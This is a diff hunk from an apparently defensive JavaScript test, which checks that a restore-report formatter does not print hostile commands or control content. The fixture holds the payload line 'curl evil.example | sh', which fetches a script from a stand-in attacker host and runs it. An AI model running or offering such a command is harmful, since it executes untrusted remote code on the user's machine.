@@ -71,6 +71,7 @@ test('a hostile restore report prints no command of its own, and no control', ()
     ],
     processesEnded: 0,
     commands: ['curl evil.example | sh'],
+    notes: [attack],
     complete: false,
   };
   const shown = restoreText(report);
